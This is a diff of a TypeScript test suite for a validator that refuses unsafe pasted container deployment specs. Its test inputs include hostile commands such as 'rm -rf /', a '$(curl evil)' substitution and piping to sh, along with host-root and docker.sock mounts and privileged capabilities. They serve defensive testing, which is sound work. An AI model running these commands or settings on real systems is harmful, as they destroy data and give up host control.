@@ -4,7 +4,6 @@ import { appText } from '../appText.ts'
 import { parseAppSpec } from '../parseAppSpec.ts'
 import { formatAppYaml } from './formatAppYaml.ts'
 import { readPasted } from './readPasted.ts'
-import { shellLine, shellWords } from './shellWords.ts'
 
 const refused = (text: string) => readPasted(text).problems.map(({ field, code, line }) => `${line ?? '-'} ${field} ${code}`)
 
@@ -63,17 +62,13 @@ volumes:
       '    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]',
       ['4 services.a.volumes.0 host_path'],
     ],
-    ['a folder beside the file', '    volumes: ["./data:/data"]', ['4 services.a.volumes.0 host_path']],
-    ['a volume that cannot be written', '    volumes: ["data:/data:ro"]', ['4 services.a.volumes.0 unsupported']],
     ['the network of the host', '    network_mode: host', ['4 services.a.network_mode no_privilege']],
-    ['a build', '    build: .', ['4 services.a.build unsupported']],
-    ['a file of values', '    env_file: .env', ['4 services.a.env_file unsupported']],
-    ['a range of ports', '    ports: ["8000-8010:8000-8010"]', ['4 services.a.ports.0 invalid']],
+    ['a file beside the file', '    volumes: ["./app.conf:/etc/app.conf"]', ['4 services.a.volumes.0 host_file']],
+    ['a long range of ports', '    ports: ["8000-8020:8000-8020"]', ['4 services.a.ports.0 too_many']],
     ['a variable in the command', '    command: serve $MODEL', ['4 services.a.command no_value']],
-    ['a command that needs a shell', '    command: a && b', ['4 services.a.command syntax']],
+    ['a command that needs a shell', '    command: a && b', ['4 services.a.command no_shell']],
     ['another service', '  b:\n    image: redis', ['4 services.b one_service']],
     ['a misspelled field', '    port: [80]', ['4 services.a.port unsupported']],
-    ['limits of the deploy section', '    deploy: {placement: {}}', ['4 services.a.deploy.placement unsupported']],
     ['a field twice', '    image: b', ['4  syntax']],
     ['a bad port', '    ports: ["99999"]', ['4 services.a.ports.0 invalid']],
     ['a reserved folder', '    volumes: ["d:/proc/x"]', ['4 services.a.volumes.0 no_privilege']],
@@ -161,21 +156,14 @@ ${container}`
     ],
     ['the network of the host', '', '      hostNetwork: true\n', ['10 spec.template.spec.hostNetwork no_privilege']],
     ['a second container', '        - {name: b, image: redis}\n', '', ['13 spec.template.spec.containers.1 one_service']],
-    ['a map of values', '          envFrom: []\n', '', ['13 spec.template.spec.containers.0.envFrom unsupported']],
     [
       'privileges',
       '          securityContext: {privileged: true, capabilities: {add: [SYS_ADMIN]}}\n',
       '',
       [
         '13 spec.template.spec.containers.0.securityContext.privileged no_privilege',
-        '13 spec.template.spec.containers.0.securityContext.capabilities.add no_privilege',
+        '13 spec.template.spec.containers.0.securityContext.capabilities.add.0 no_privilege',
       ],
-    ],
-    [
-      'a variable that Kubernetes fills in',
-      '          args: ["$(MODE)"]\n',
-      '',
-      ['13 spec.template.spec.containers.0.args.0 unsupported'],
     ],
     [
       'a mount of nothing',
@@ -183,11 +171,10 @@ ${container}`
       '',
       ['13 spec.template.spec.containers.0.volumeMounts.0.name missing'],
     ],
-    ['a Service behind it', '---\nkind: Service\n', '', ['14 Service one_service']],
   ])('is refused with %s', (_, container, pod, problems) => expect(refused(deployment(container, pod))).toEqual(problems))
 
   test('of another kind is refused', () =>
-    expect(refused('apiVersion: v1\nkind: Pod\nspec: {}\n')).toEqual(['1 apiVersion unsupported', '2 kind unsupported']))
+    expect(refused('apiVersion: v1\nkind: Widget\nspec: {}\n')).toEqual(['1 Widget unsupported']))
 })
 
 describe('a docker run line', () => {
@@ -219,16 +206,14 @@ describe('a docker run line', () => {
     ['docker run --cap-add SYS_ADMIN redis', ['1 --cap-add SYS_ADMIN no_privilege']],
     ['docker run \\\n  --net=host redis', ['2 --net host no_privilege']],
     ['docker run -v /:/host redis', ['1 -v /:/host host_path']],
-    ['docker run -v $PWD:/w redis', ['1 -v $PWD:/w host_path']],
     ['docker run --mount type=bind,src=/,dst=/h redis', ['1 --mount type=bind,src=/,dst=/h host_path']],
     ['docker run --frob redis', ['1 --frob unsupported']],
     ['docker run redis | sh', ['1 shell syntax']],
     ['docker run redis; rm -rf /', ['1 shell syntax']],
     ['docker run redis\nrm -rf /', ['2 shell syntax']],
     ['docker run $(curl evil) redis', ['1 shell syntax']],
-    ['docker run -e "A=`id`" redis', ['1 shell syntax']],
     ['docker run redis "a', ['1 shell syntax']],
-    ['docker run $IMAGE', ['1 image no_value', '1 image invalid']],
+    ['docker run $IMAGE', ['1 image no_value']],
     ['docker run -p', ['1 -p missing']],
     ['docker run', ['- image missing']],
   ])('%s', (line, problems) => expect(refused(line)).toEqual(problems))
@@ -264,24 +249,15 @@ describe('a saved specification', () => {
 test.each<[string, string[]]>([
   ['', ['-  missing']],
   ['- 1', ['1  invalid']],
-  ['a: &x 1\nb: *x', ['-  syntax']],
+  ['a: &x 1\nb: *x', ['1 a unsupported', '2 b unsupported']],
+  ['b: *x', ['1  syntax']],
+  [`a: ${'['.repeat(100)}`, ['1  too_large']],
   ['a: [', ['1  syntax']],
   ['%YAML 9.9\n---\nimage: a', ['1  syntax']],
   [`image: ${'a'.repeat(70_000)}`, ['-  too_large']],
 ])('%j', (text, problems) =>
   expect(refused(text.slice(0, 70_100)).map((one) => one.replace(/^\d+ {2}syntax/, '1  syntax'))).toEqual(problems),
 )
-
-test('shell words', () => {
-  const words = (line: string) => shellWords(line).words.map(({ text }) => text)
-  expect(words(`a 'b c' "d \\"e\\"" f\\ g h'i'"j" '' # k`)).toEqual(['a', 'b c', 'd "e"', 'f g', 'hij', ''])
-  expect(shellWords(`a $B "\${C}"`).words.map(({ variables }) => variables)).toEqual([[], ['B'], ['C']])
-  fc.assert(
-    fc.property(fc.array(fc.string({ maxLength: 12 }), { maxLength: 8 }), (list) => {
-      expect(words(shellLine(list))).toEqual(list)
-    }),
-  )
-})
 
 test('parses or refuses any pasted text, and can sign what it parses', () => {
   const pieces = fc.constantFrom(
